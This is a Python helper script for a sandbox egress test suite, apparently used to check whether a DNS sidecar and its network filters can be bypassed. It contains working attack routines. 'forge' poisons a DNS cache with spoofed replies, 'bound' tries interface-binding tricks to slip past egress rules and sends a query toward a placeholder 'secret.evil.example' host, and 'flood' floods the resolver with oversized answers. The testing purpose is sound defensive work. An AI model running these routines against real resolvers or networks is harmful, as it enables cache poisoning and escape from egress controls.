"""Both sides of egress-attacks.test.ts: `python3 -c <this file> <word> <arguments>`.

Beside the sandbox: `forge`, `bound`, `flood`, `hold`. In the internet: `resolver`, `wire`. Those that run on say a first line when they
are ready. What an attack itself prints is no verdict: the tests look at what the internet saw.
"""
import json
import os
import select
import socket
import struct
import sys
import time


def family(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def labels(name):
    return b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"


def question(name, ident=0x5A11):
    return struct.pack("!6H", ident, 0x0100, 1, 0, 0, 0) + labels(name) + b"\0\1\0\1"


def reply(query, addresses):
    """An answer to `query` with these addresses, for a minute."""
    records = b"".join(b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4" + address for address in addresses)
    return query[:2] + b"\x81\x80" + struct.pack("!4H", 1, len(addresses), 0, 0) + query[12:] + records


def resolver(address, port, site):
    """An upstream over UDP. `s.…` is answered after a second, `crowd-<n>.…` has 4,000 addresses of its own, every other name has `site`."""
    with socket.socket(family(address), socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
        s.bind((address, int(port)))
        print("ready", flush=True)
        waiting = []
        while True:
            if select.select([s], [], [], 0.01)[0]:
                query, peer = s.recvfrom(999)
                first = query[13 : 13 + query[12]].decode().lower()
                if first == "s":
                    waiting.append((time.monotonic() + 1, query, peer))
                elif first.startswith("crowd-"):
                    start = 0xC6120000 + int(first[6:]) * 4000
                    s.sendto(reply(query, [struct.pack("!I", start + i) for i in range(4000)]), peer)
                else:
                    s.sendto(reply(query, [socket.inet_aton(site)]), peer)
                    print(first, flush=True)
            while waiting and waiting[0][0] < time.monotonic():
                _, query, peer = waiting.pop(0)
                s.sendto(reply(query, [socket.inet_aton(site)]), peer)


def wire(device):
    """Every IP packet that arrives over the cable, one line of JSON each; neighbour discovery and group reports (ICMPv6) left out."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3)) as s:
        s.bind((device, 3))
        print("ready", flush=True)
        while True:
            data, (_, kind, direction, *_rest) = s.recvfrom(4096)
            if direction == socket.PACKET_OUTGOING or kind not in (0x0800, 0x86DD):
                continue
            if kind == 0x0800:
                start, protocol, to = (data[0] & 15) * 4, data[9], socket.inet_ntoa(data[16:20])
            else:
                start, protocol, to = 40, data[6], socket.inet_ntop(socket.AF_INET6, data[24:40])
            if kind == 0x86DD and protocol in (0, 58):
                continue
            source, port = struct.unpack("!HH", data[start : start + 4])
            print(json.dumps({"from": source, "to": to, "port": port, "protocol": protocol}), flush=True)


def forge(upstream, own, name, address, seconds):
    """As the IPv6 upstream, over the loopback: answers with every id to the sidecar's own sockets, while it is asked for the name all the time."""
    ports = [int(local.split(":")[1], 16) for local, peer in (line.split()[1:3] for line in open("/proc/net/udp6").read().splitlines()[1:]) if peer.endswith(":0035") or local.startswith("0" * 32 + ":")]
    forger = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    forger.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND
    forger.bind((upstream, 53))
    asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asker.connect(("127.0.0.1", 15353))
    asker.setblocking(False)
    wanted = socket.inet_aton(address)
    rest = reply(question(name), [wanted])[2:]
    # The same question is on its way once at a time; with other flags it is another one.
    asks = [question(name)[:2] + struct.pack("!H", flags) + question(name)[4:] for flags in (0x0100, 0x0110, 0x0120, 0x0130, 0, 0x0010, 0x0020, 0x0030)]
    forged, came, end = 0, False, time.monotonic() + float(seconds)
    while not came and time.monotonic() < end:
        for ask in asks:
            try:
                asker.send(ask)
            except OSError:
                pass
        for ident in struct.unpack("!256H", os.urandom(512)):
            try:
                forger.sendto(struct.pack("!H", ident) + rest, (own, ports[forged % len(ports)]))
            except OSError:
                pass
            forged += 1
        try:
            while not came:
                came = asker.recv(512).endswith(wanted)
        except OSError:
            pass
    return "%d answers to %d ports" % (forged, len(ports))


def bound(tries):
    """Each try is [how, device, protocol, address, port], from port 40000 and the ones after it."""
    for number, (how, device, protocol, address, port) in enumerate(json.loads(tries)):
        v6 = family(address) == socket.AF_INET6
        index = socket.if_nametoindex(device)
        with socket.socket(family(address), socket.SOCK_STREAM if protocol == "tcp" else socket.SOCK_DGRAM) as s:
            s.settimeout(0.1)
            ancillary = []
            try:
                s.bind(("", 40000 + number))
                if how == "device":
                    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode() + b"\0")
                elif how == "interface":
                    s.setsockopt(*((socket.IPPROTO_IPV6, 76) if v6 else (socket.IPPROTO_IP, 50)), struct.pack("!I", index))  # IPV6_UNICAST_IF, IP_UNICAST_IF
                elif how == "packet-info":
                    ancillary = [(socket.IPPROTO_IPV6, socket.IPV6_PKTINFO, bytes(16) + struct.pack("i", index))] if v6 else [(socket.IPPROTO_IP, 8, struct.pack("i", index) + bytes(8))]
                if protocol == "tcp":
                    s.connect((address, port))
                else:
                    s.sendmsg([question("secret.evil.example")], ancillary, 0, (address, port))
            except OSError as error:
                print(number, how, error)
    return "sent"


def flood(server, suffix, count, seconds):
    """Asks for so many names with 4,000 addresses each, and again for those that came back without any; tells how many came with."""
    names = ["crowd-%d.%s" % (number, suffix) for number in range(int(count))]
    sockets, end = {}, time.monotonic() + float(seconds)
    while names and time.monotonic() < end:
        for name in names:
            if name not in sockets:
                sockets[name] = socket.socket(family(server), socket.SOCK_DGRAM)
                sockets[name].connect((server, 53))
                sockets[name].send(question(name))
                time.sleep(0.012)
        for name in names:
            if select.select([sockets[name]], [], [], 0)[0]:
                with sockets.pop(name) as s:
                    if struct.unpack("!H", s.recv(65535)[6:8])[0] > 0:
                        names.remove(name)
                        break
    return "%d of %s" % (int(count) - len(names), count)


def hold(protocol, address, port):
    """Takes a port and keeps it."""
    with socket.socket(family(address), socket.SOCK_DGRAM if protocol == "udp" else socket.SOCK_STREAM) as s:
        s.bind((address, int(port)))
        if protocol == "tcp":
            s.listen()
        print("ready", flush=True)
        while True:
            time.sleep(60)


print(globals()[sys.argv[1]](*sys.argv[2:]))
